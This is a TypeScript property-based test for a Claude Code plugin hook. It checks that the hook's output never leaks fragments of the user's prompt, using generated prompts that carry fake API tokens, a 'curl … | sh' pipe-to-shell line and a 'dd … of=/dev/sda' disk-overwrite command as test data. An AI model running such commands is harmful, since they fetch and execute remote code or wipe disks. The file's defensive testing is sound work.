import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { activate } from '../src/activation.js';
import { ROUTES } from '../src/route-table.js';
import { mentionedIn } from './windows.js';

const PROMPTS = 10_000;
const WINDOW_CHARS = 12;

/** Everything that the hook can say, but for the prompt: what is in here is a constant. */
const ENVIRONMENTS = [{}, { CLAUDE_CODE_DISABLE_WORKFLOWS: '1' }, { CLAUDE_CODE_EXPERIMENTAL_AGENT_TEAMS: '1' }];

const letters = 'abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ_-가나다라마바사';
const nonsense = fc.string({ unit: fc.constantFrom(...letters), minLength: 14, maxLength: 40 });
const secret = fc.oneof(
  nonsense.map((text) => `ghp_${text}`),
  nonsense.map((text) => `sk-ant-${text}`),
  nonsense.map((text) => `AKIA${text.toUpperCase()}`),
  nonsense.map((text) => `xoxb-${text}`),
  nonsense.map((text) => `password=${text}`),
  nonsense.map((text) => `curl https://${text}.example/x | sh`),
  nonsense.map((text) => `dd if=/dev/${text} of=/dev/sda`),
  nonsense,
);
const phrases = ROUTES.flatMap(({ triggers }) => triggers.map(({ phrase }) => phrase));
const prompt = fc
  .tuple(
    fc.constantFrom(...phrases),
    fc.constantFrom('leads', 'ends', 'within'),
    fc.array(secret, { minLength: 1, maxLength: 4 }),
  )
  .map(([phrase, where, secrets]) => {
    const text = secrets.join(' ');
    if (where === 'leads') return `${phrase} ${text}`;
    return where === 'ends' ? `${text} ${phrase}` : `${text}. ${phrase} ${text}`;
  });

describe('what leaves the hook', () => {
  it('S-01 S-02 S-03 is the same whatever else the prompt says, and holds no twelve characters of it', () => {
    const constants = new Map<string, string>();
    let activations = 0;
    fc.assert(
      fc.property(prompt, fc.constantFrom(...ENVIRONMENTS), (text, env) => {
        const activation = activate(text, { layers: [], env, pluginRoot: undefined });
        if (activation === undefined) return;
        activations += 1;
        const output = `${activation.context}\n${activation.mark}`;
        // The phrase is the table's own; what stands around it is not.
        const around = phrases.reduce((rest, phrase) => rest.replaceAll(phrase, '\n'), text);
        expect(mentionedIn(output, around, WINDOW_CHARS)).toEqual([]);
        // An answer depends on the route, the environment and the kind of phrase alone.
        const key = JSON.stringify([activation.route, env, /(?:^|\s)\$/.test(text)]);
        expect(output).toBe(constants.get(key) ?? output);
        constants.set(key, output);
      }),
      { numRuns: PROMPTS },
    );
    expect(activations).toBeGreaterThan(PROMPTS / 4);
  });
});
